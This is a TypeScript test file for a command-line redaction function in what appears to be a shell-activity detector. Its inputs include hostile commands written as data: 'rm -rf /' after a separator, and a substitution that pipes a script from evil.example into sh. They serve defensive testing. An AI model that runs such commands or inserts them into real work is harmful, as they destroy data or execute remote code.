import t from 'tap';
import { redactCommandLine } from '../../../src/detect/shell';

t.test('keeps the shape, drops the data', async (t) => {
  t.equal(redactCommandLine('ls -la /tmp'), 'ls -la /tmp', 'short plain arguments stay');
  t.equal(redactCommandLine("grep -r 'secret value' ."), "grep -r '?' .");
  t.equal(redactCommandLine('echo "hello world"'), 'echo "?"');
  t.equal(redactCommandLine("echo $'a\\nb'"), "echo $'?'");
  t.equal(redactCommandLine('mysql --password=hunter2 -e x'), 'mysql --password=? -e x', 'option values go');
  t.equal(redactCommandLine('curl https://example.com/a/very/long/path?token=abc'), 'curl ?', 'long arguments go');
  t.equal(redactCommandLine('x; rm -rf / # cleanup'), 'x; rm -rf / #?', 'operators stay, comments go');
  t.equal(redactCommandLine('a  \t b'), 'a b', 'blanks are normalised');
});

t.test('substitutions are redacted inside, so an attack stays visible', async (t) => {
  t.equal(redactCommandLine('echo "name: $(curl http://evil.example/payloads/x.sh | sh)"'), 'echo "?$(curl ? | sh)"');
  t.equal(redactCommandLine('echo `id` ${IFS} $((1+2)) <(ls)'), 'echo `id` ${IFS} $((?)) <(ls)');
  t.equal(redactCommandLine('echo "$HOME/x"'), 'echo "$HOME?"');
});

t.test('here-documents and odd input', async (t) => {
  t.equal(redactCommandLine('cat <<EOF >f\ntop secret\nEOF\nls'), 'cat <<EOF >f\n?\nls');
  t.equal(redactCommandLine("echo 'unterminated secret"), "echo '?'");
  t.equal(redactCommandLine(''), '');
  t.equal(redactCommandLine(42 as unknown as string), '', 'non-strings give an empty string');
  const big = 'echo ' + 'a '.repeat(5000);
  t.ok(redactCommandLine(big).length <= 2049, 'output is capped');
});
